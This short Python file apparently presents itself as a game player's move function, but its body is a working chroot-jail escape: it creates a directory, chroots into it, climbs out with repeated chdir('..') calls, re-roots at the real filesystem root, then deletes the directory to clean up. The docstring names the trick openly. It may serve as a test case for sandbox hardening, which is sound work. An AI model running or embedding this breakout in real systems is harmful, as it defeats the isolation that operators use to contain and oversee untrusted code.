"""Leaves a changed root by the old trick: change it again, and climb from where one stood."""

import os

NAME = f"alphabeta-{os.getpid()}"


def attack(game, state):
    try:
        os.mkdir(NAME)
    except OSError:
        return
    folder = os.getcwd()
    try:
        os.chroot(NAME)
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    os.rmdir(os.path.join(folder, NAME))
